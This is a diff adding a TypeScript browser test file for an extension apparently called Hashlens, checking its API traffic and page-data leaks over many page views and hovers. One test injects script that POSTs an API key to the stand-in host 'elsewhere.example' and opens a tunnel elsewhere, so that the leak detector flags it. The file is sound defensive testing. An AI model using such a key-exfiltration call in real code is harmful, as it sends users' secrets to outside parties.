@@ -1,0 +1,105 @@
+import type { DrivenPage } from './driver/driver.ts';
+import { pointOf } from './driver/hands.ts';
+import { prefer } from './driver/set-up.ts';
+import { until } from './driver/until.ts';
+import { expect, test } from './story.ts';
+import { firstAlone, type Place, placesOn, toPageUrl, viewsAtOnce } from './wire/session-pages.ts';
+import { wired } from './wire/wired.ts';
+
+const pagesAlone = 20;
+// As many groups of pages before each of these.
+const groupsEach = 5;
+
+/** Shows a page with those in its frames, and waits until Hashlens has looked at each. */
+async function view(page: DrivenPage, first: number, count: number): Promise<void> {
+  await page.goto(toPageUrl(first));
+  const isLooked = () => page.evaluate((all) => Reflect.get(globalThis, 'looked') === all, count);
+  await until(`${count} pages from ${first} on are looked at`, isLooked, 30_000);
+}
+
+/** Rests on a place until its card has its answer, and closes that. */
+async function rest(page: DrivenPage, { id, name }: Place): Promise<void> {
+  // In one leap: on a busy machine a step that lands on another reference would be a rest on it.
+  await page.moveTo(await pointOf(page, `#${id}`), 1);
+  await until(`a card named "${name}" has its answer`, async () => {
+    const [card, second] = await page.cards();
+    return second === undefined && card?.name === name && !card.busy && card.text !== '' && card.alerts.length === 0;
+  });
+  await page.press('Escape');
+}
+
+test('of 1,000 page views and 200 hovers only the API hears, once of each unknown, and nothing about the pages', async ({
+  browserKind,
+}) => {
+  // A minute or so on an idle machine.
+  test.setTimeout(600_000);
+  await wired(browserKind, async ({ driver, apiRequests, views, leaks }) => {
+    await prefer(driver, { showAfterMs: 100 });
+    const page = await driver.openPage('about:blank');
+    let hovers = 0;
+    let expected = 0;
+    const hoverAll = async (places: Place[], requestsEach: number) => {
+      for (const place of places) {
+        await rest(page, place);
+        hovers += 1;
+        expected += requestsEach;
+        expect(apiRequests().length, `after ${place.name}`).toBe(expected);
+      }
+    };
+
+    let known: Place[] = [];
+    for (let alone = 0; alone < pagesAlone; alone += 1) {
+      const start = alone * groupsEach * viewsAtOnce;
+      const end = Math.min(start + groupsEach * viewsAtOnce, firstAlone);
+      for (let first = start; first < end; first += viewsAtOnce) await view(page, first, viewsAtOnce);
+      await view(page, firstAlone + alone, 1);
+      expect(apiRequests().length, `after page ${firstAlone + alone}`).toBe(expected);
+      const { final, moving } = placesOn(firstAlone + alone);
+      await hoverAll([...final, ...moving], 1);
+      // Whatever is final is known from now on, on every page.
+      await hoverAll([...known, ...final, ...final].slice(0, final.length + moving.length), 0);
+      known = final.slice(1);
+    }
+
+    expect(views()).toBe(1_000);
+    expect(hovers).toBe(200);
+    expect(expected).toBe(100);
+    expect(new Set(apiRequests()).size).toBe(expected);
+    expect(leaks()).toEqual([]);
+  });
+});
+
+test('what a page sends by itself to the API or elsewhere is found on the wire', async ({ browserKind }) => {
+  test.setTimeout(120_000);
+  await wired(browserKind, async ({ driver, api, leaks }) => {
+    const page = await driver.openPage(toPageUrl(1));
+    expect(leaks()).toEqual([]);
+    const hash = `0x${'0'.repeat(64)}`;
+
+    await page.evaluate(
+      (apiUrl, key, path) => {
+        const send = (url: string, init: RequestInit = {}) =>
+          void fetch(url, { mode: 'no-cors', ...init }).catch(() => {});
+        send(`${apiUrl}${path}?apikey=${key}&page=${encodeURIComponent(location.href)}`);
+        send('http://elsewhere.example/', { method: 'POST', body: key });
+        send('https://tunnel.example/');
+      },
+      api.url,
+      api.key,
+      `/1/api/v2/transactions/${hash}`,
+    );
+
+    await expect
+      .poll(leaks)
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringMatching(/^the parameter page: GET http:\/\/127/),
+          expect.stringMatching(/^the header referer: GET http:\/\/127/),
+          expect.stringMatching(/^the page’s host bank\.example: GET http:\/\/127/),
+          'nobody asked for it: POST http://elsewhere.example/',
+          'the key goes elsewhere: POST http://elsewhere.example/',
+          'nobody asked for it: CONNECT tunnel.example:443',
+        ]),
+      );
+  });
+});
